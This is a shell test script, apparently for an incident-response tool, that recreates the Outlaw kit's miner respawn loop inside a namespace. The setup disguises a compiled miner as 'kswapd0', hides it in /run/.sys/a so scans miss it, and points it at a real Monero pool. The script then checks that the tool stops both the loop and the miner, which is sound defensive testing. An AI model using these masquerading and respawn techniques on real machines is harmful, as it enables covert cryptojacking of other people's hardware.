# A respawn loop that is no one's parent (Outlaw's upd, in our words): it restarts its miner through a subshell,
# so the miner is reparented to this namespace's init and the process tree no longer links them. The plan must
# freeze the loop with the miner, and after the apply neither comes back.
#
# Input in $WORK: miner.c. The miner is compiled here, inside the namespace.
source "$RESPOND_LIB"
isolate

# under /run: a place no sweep looks, so nothing but the running miner gives the kit away
kit=/run/.sys/a
mkdir -p "$kit"
gcc -O1 -Wall -o "$kit/kswapd0" "$WORK/miner.c" || fail "cannot compile the miner"
chmod 755 "$kit/kswapd0"
cat > "$kit/upd" <<'LOOP'
#!/bin/bash
cd /run/.sys/a
while true; do
    pgrep -x kswapd0 >/dev/null || (nohup ./kswapd0 -o stratum+tcp://pool.supportxmr.com:3333 >/dev/null 2>&1 &)
    sleep 1
done
LOOP
chmod 700 "$kit/upd"

bash "$kit/upd" &
loop=$!
miner() { pgrep -x kswapd0 | head -1; }
running() { [ -n "$(miner)" ]; }
wait_for 5 running || fail "the miner did not start"
first=$(miner)
fact LOOP "$loop"
fact MINER_PPID "$(awk '{print $4}' "/proc/$first/stat")"
kill -9 "$first"
respawned() { local p; p=$(miner); [ -n "$p" ] && [ "$p" != "$first" ]; }
if wait_for 5 respawned; then fact RESPAWNED yes; else fact RESPAWNED no; fi
fact MINER "$(miner)"

run PLAN respond --cpu-window 0.2 --format json
run APPLY respond --apply --yes --store "$WORK/store" --cpu-window 0.2 --format json
# three of the loop's periods: a loop left running would have restarted the miner by now
sleep 3.5
if [ -n "$(miner)" ]; then fact MINER_AFTER "$(miner)"; else fact MINER_AFTER none; fi
if kill -0 "$loop" 2>/dev/null && [ "$(awk '{print $3}' "/proc/$loop/stat")" != Z ]; then fact LOOP_AFTER alive; else fact LOOP_AFTER gone; fi
processes > "$WORK/procs-after.txt"
fact DONE yes
